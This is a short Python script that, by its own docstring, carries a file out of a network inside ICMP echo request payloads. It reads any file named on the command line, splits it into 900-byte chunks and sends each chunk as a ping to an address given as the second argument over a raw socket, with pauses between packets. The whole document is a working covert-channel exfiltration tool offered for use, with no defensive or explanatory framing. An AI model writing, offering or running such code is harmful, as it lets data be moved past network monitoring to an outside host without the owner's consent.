#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Carry a file out in the payloads of echo requests.  usage: carry_by_ping.py FILE ADDRESS"""
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
data = open(sys.argv[1], "rb").read()
for number in range(0, len(data), 900):
    piece = data[number : number + 900]
    piece += b"\0" * (len(piece) % 2)
    head = struct.pack(">BBHHH", 8, 0, 0, 0x7F3A, number // 900)
    raw.sendto(struct.pack(">BBHHH", 8, 0, checksum(head + piece), 0x7F3A, number // 900) + piece, (sys.argv[2], 0))
    time.sleep(0.15)
